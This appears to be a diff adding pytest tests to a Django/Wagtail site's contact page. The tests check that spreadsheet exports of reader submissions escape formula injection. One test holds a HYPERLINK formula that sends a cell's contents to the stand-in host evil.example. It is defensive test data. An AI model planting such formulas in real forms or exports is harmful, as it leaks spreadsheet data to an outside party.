@@ -1,7 +1,10 @@
 """The contact page: readers write to the editors; what they send is kept in the admin."""
 
+import csv
+import io
 from http import HTTPStatus
 
+import openpyxl
 import pytest
 
 from django.core import mail
@@ -13,6 +16,7 @@ from wagtail.rich_text import RichText
 
 from articles.models import ArticlePage, ContactPage, SectionPage, SiteSettings
 from articles.reader_forms import HONEYPOT_FIELD
+from articles.spreadsheets import as_text
 from tests.helpers import edit_form_data, soup
 
 pytestmark = pytest.mark.django_db
@@ -161,6 +165,43 @@ def test_submissions_are_listed_in_the_admin_and_can_be_deleted(
     response = editor_client.post(f"{delete_url}?selected-submissions={submission.pk}")
     assert response.status_code == HTTPStatus.FOUND
     assert not FormSubmission.objects.exists()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_the_export_keeps_a_spreadsheet_from_running_what_a_reader_wrote(
+    client, editor_client, contact_page, start
+):
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Open")'
+    client.post(CONTACT, {**MESSAGE, "your_name": formula, "your_message": f"{start}1+1"})
+    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
+    export = editor_client.get(url + "?export=csv")
+    [row] = csv.DictReader(io.StringIO(export.getvalue().decode(), newline=""))
+    assert row["Your name"] == "'" + formula
+    assert row["Your message"] == f"'{start}1+1"
+
+
+def test_the_spreadsheet_export_stores_a_formula_a_reader_wrote_as_text(
+    client, editor_client, contact_page
+):
+    client.post(CONTACT, {**MESSAGE, "your_message": "=1+1"})
+    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
+    export = editor_client.get(url + "?export=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
+    [cell] = [cell for cell in sheet[2] if cell.value == "=1+1"]
+    assert cell.data_type == "s"
+
+
+@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1"])
+def test_a_cell_starting_with_a_tab_or_carriage_return_is_exported_as_text(cell):
+    assert as_text(cell) == "'" + cell
+
+
+def test_the_export_keeps_ordinary_answers_as_written(client, editor_client, contact_page):
+    client.post(CONTACT, {**MESSAGE, "your_message": "Dose 5-10 mg = too much?"})
+    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
+    export = editor_client.get(url + "?export=csv")
+    [row] = csv.DictReader(io.StringIO(export.getvalue().decode(), newline=""))
+    assert row["Your message"] == "Dose 5-10 mg = too much?"
 
 
 def test_reviewers_read_submissions_and_editors_do_not(client, contact_page, editor, reviewer):
